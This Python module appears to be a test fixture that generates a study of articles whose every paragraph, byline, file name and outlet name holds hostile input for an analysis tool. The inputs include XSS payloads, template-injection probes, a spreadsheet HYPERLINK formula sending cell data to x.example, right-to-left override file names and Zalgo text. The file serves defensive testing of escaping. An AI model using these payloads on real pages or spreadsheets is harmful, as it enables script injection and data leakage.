"""A study whose every text is an attack: on the page, on a spreadsheet, on a reader's eyes."""

from __future__ import annotations

from pathlib import Path

from analysis.importing.study import toml_value

RUN = "window.canary = (window.canary || 0) + 1"
"""What an attack does when it works."""

ATTACKS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'"><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<details open ontoggle='{RUN}'>",
    f"javascript:{RUN}",
    "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.canary=1&lt;/script&gt; &#x3C;b&#x3E; &amp;amp;",
    "<b>never closed <!-- nor this <textarea> <style>* { display: none }",
    "</script></style></textarea></title></svg> --> ]]>",
    '=HYPERLINK("https://x.example/?" & A1; "open")',
    "\u202eetirw ot desu\u202c \u2066isolated\u2069",
    "Rus\u200bsia and NA\u2060TO",
    "Z" + "\u0300\u0489" * 500 + "algo",
)
FILES = (
    f"<img src=x onerror={RUN.replace(' ', '').replace('/', '')}>.txt",
    "{{ 7 * 7 }}.txt",
    "\u202etxt.exe.txt",
    "=1+1.txt",
)
OUTLETS = ('The "Gazette" <script>window.canary=1</script>', "=Herald & \u202eSons\u202c")


def make(folder: Path, *, long_word: int = 1_000_000) -> Path:
    """A study of four articles, in which every paragraph holds an attack and one a word of so many letters."""
    for number, file in enumerate(FILES):
        path = folder / "articles" / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(_article(number, long_word), encoding="utf-8")
    entries = [
        _entry("articles", file=f"articles/{file}", outlet=OUTLETS[number % 2], date=f"2020-01-0{number + 1}")
        for number, file in enumerate(FILES)
    ]
    outlets = [_entry("outlets", name=name) for name in OUTLETS]
    head = f"[study]\ntitle = {toml_value(ATTACKS[0])}\ndescription = {toml_value(ATTACKS[1])}\n"
    settings = "[topics]\nlayouts = 20\n[compare]\naudits = 0\nresamples = 200\n"
    (folder / "study.toml").write_text("\n".join([head, settings, *outlets, *entries]), encoding="utf-8")
    return folder


def _article(number: int, long_word: int) -> str:
    """A headline, a byline and a paragraph for each attack; those of one article differ from another's in a word."""
    paragraphs = [
        f"The minister of place {number} said that the talks went on: “{attack} is what we heard,” said {attack} "
        f"on day {place}."
        for place, attack in enumerate(ATTACKS)
    ]
    if number == 0:
        paragraphs.append(f"Then came a word without an end: {'w' * long_word} and no more of the talks.")
    return (
        "\n\n".join([f"Headline {number} {ATTACKS[number]}", f"By {ATTACKS[number + 1]}", *paragraphs]) + "\n"
    )


def _entry(kind: str, /, **values: str) -> str:
    """A block of `study.toml`."""
    return f"[[{kind}]]\n" + "".join(f"{key} = {toml_value(value)}\n" for key, value in values.items())
